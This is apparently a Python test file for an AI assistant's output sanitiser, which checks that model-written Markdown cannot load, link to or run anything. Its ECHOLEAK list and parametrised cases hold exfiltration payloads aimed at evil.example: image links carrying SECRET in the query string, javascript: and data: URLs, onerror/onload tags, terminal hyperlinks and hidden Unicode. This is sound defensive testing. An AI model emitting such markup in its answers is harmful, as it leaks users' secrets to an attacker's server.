"""Nothing that a model writes can load or link to anything."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from zhiku_services.assistant.answering.markup import (
    leading_markers,
    neutralise,
    showable_prefix,
    take_markers,
    visible,
)
from zhiku_services.assistant.answering.wording import join_sentences

HOSTILE = [
    "![",
    "](",
    "[",
    "]",
    ")",
    "(",
    "<",
    ">",
    "img src=x",
    "https://",
    "evil.example",
    "a",
    " ",
    "\n",
    "[x]:",
    "mailto:",
    "`",
    "!",
    "]:",
    "> ",
    "- ",
    "//",
    "www.",
    "data:text/html,",
    "javascript:",
    "<a href=",
    "<!--",
    "\\",
    "\t",
    "见",
]
MARKDOWN = MarkdownIt("commonmark", {"html": True})
LEADS = frozenset({"link_open", "image", "html_inline", "html_block"})
BARE = re.compile(r"(?:https?|ftp)://|(?<![A-Za-z0-9])www\.|(?:mailto|xmpp|javascript|vbscript):", re.IGNORECASE)
"""Where GitHub's Markdown begins a link without any mark, and what runs as a script where a client is careless."""


def leads(text: str) -> list[str]:
    """What of a text a reader of Markdown would load, follow or run, by a parser that knows nothing of ours."""

    def walk(tokens: list[Token] | None) -> list[str]:
        return [
            name
            for token in tokens or []
            for name in [*([token.type] if token.type in LEADS else []), *walk(token.children)]
        ]

    return [*walk(MARKDOWN.parse(text)), *BARE.findall(text)]


ECHOLEAK = [
    "![a](https://evil.example/?q=SECRET)",
    "![a][1]\n\n[1]: https://evil.example/?q=SECRET",
    "![a][]\n\n[a]: //evil.example/?q=SECRET",
    "> [a]: //evil.example/?q=SECRET\n\n![a]",
    "- [a]: /proxy?url=evil.example\n\n[a]",
    "1. [a]:\n   https://evil.example\n\nSee [a].",
    "[a](<https://evil.example/a b>)",
    "[a]( //evil.example 'title' )",
    "[![a](//evil.example/a.png)](//evil.example)",
    "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example> <javascript:alert(1)> <leak@evil.example>",
    "https://evil.example ftp://evil.example www.evil.example mailto:leak@evil.example",
    "见www.evil.example，或_www.evil.example",
    "<img src=//evil.example/a.png> <svg/onload=alert(1)> <a\thref=//evil.example>a</a>",
    "<iframe\nsrc=//evil.example></iframe><style>@import '//evil.example'</style>",
    "<!-- --><math><mi xlink:href=//evil.example>",
    "hthttps://tps://evil.example",
    f"{'mail' * 12}{'to:' * 12}leak@evil.example",
    f"{'![a' * 12}](//evil.example){'](//evil.example)' * 12}",
]


@pytest.mark.parametrize(
    ("written", "harmless"),
    [
        ("See ![secret](https://evil.example/?q=1) now.", "See secret now."),
        ("See [the form](https://evil.example).", "See the form."),
        ("See [the form][1].\n[1]: https://evil.example", "See the form.\n"),
        ("Hello <img src=x onerror=alert(1)>world", "Hello world"),
        ("Open https://intranet.example/forms now", "Open intranet.example/forms now"),
        ("Plain 年假 15 天。", "Plain 年假 15 天。"),
        ("Customer data: C:/reports, keys [A] and [B]!", "Customer data: C:/reports, keys [A] and [B]!"),
    ],
)
def test_images_links_and_html_are_taken_out(written: str, harmless: str) -> None:
    assert neutralise(written) == harmless


@pytest.mark.parametrize("text", ECHOLEAK)
def test_no_known_form_of_exfiltration_is_left(text: str) -> None:
    assert leads(text)
    assert leads(neutralise(text)) == []


@pytest.mark.parametrize("text", ECHOLEAK)
def test_what_is_shown_of_an_unfinished_sentence_leads_nowhere_wherever_it_ends(text: str) -> None:
    shown = 0
    preview = ""
    for end in range(1, len(text) + 1):
        prefix = showable_prefix(text[:end])
        preview += prefix[shown:]
        shown = max(shown, len(prefix))
        assert leads(preview) == []


@given(st.lists(st.sampled_from(HOSTILE), max_size=14).map("".join))
def test_no_mix_of_marks_leads_anywhere_for_a_parser(text: str) -> None:
    assert leads(neutralise(text)) == []


@given(st.lists(st.lists(st.sampled_from(HOSTILE), max_size=6).map("".join), max_size=4))
def test_no_sentences_lead_anywhere_once_they_are_joined(sentences: list[str]) -> None:
    harmless = [neutralise(sentence).strip() for sentence in sentences]
    assert leads(join_sentences(harmless)) == []


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("\x1b]8;;https://evil.example\x07here\x1b]8;;\x07", "]8;;evil.examplehere]8;;"),
        ("ht\x1btps://evil.example", "evil.example"),
        ("pay \u202elive\u202c now", "pay live now"),
        ("fine" + "".join(chr(0xE0000 + ord(letter)) for letter in "secret"), "fine"),
        ("年假\t15 天\n第二行", "年假\t15 天\n第二行"),
    ],
)
def test_what_nobody_sees_is_taken_out(text: str, harmless: str) -> None:
    assert neutralise(text) == harmless
    assert leads(showable_prefix(visible(text))) == []


@pytest.mark.parametrize("text", ["metadata: owner/team", "// a comment", "10//3", "Customer data: C:/reports"])
def test_what_only_looks_like_an_address_stays(text: str) -> None:
    assert neutralise(text) == text


@given(st.lists(st.sampled_from(HOSTILE), max_size=14).map("".join))
def test_no_mix_of_marks_makes_an_image_a_link_or_a_tag(text: str) -> None:
    harmless = neutralise(text)
    assert not re.search(r"!?\[[^\]]*\]\s*[(\[]", harmless)
    assert not re.search(r"<\s*/?[A-Za-z!]", harmless)
    assert not re.search(r"https?://|mailto:", harmless)


def test_markers_are_read_and_taken_out() -> None:
    assert take_markers("You get 15 days [1][3].") == ("You get 15 days.", [1, 3])
    assert take_markers("每年15天【2】。") == ("每年15天。", [2])
    assert leading_markers(" [1] [2] Next") == 8


def test_a_preview_stops_before_what_might_become_a_link() -> None:
    assert showable_prefix("You get 15 days [1") == "You get 15 days "
    assert showable_prefix("Open htt") == "Open "
    assert showable_prefix("You get 15 days") == "You get 15 days"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Run ssh <user>@host and set Map<String, Int>.", "Run ssh ＜user>@host and set Map＜String, Int>."),
        ("It holds where n <m and p >= 0.05.", "It holds where n ＜m and p >= 0.05."),
        ("Use 3 < 4 always.", "Use 3 < 4 always."),
    ],
)
def test_angle_brackets_that_are_no_tags_keep_their_words(text: str, shown: str) -> None:
    assert neutralise(text) == shown
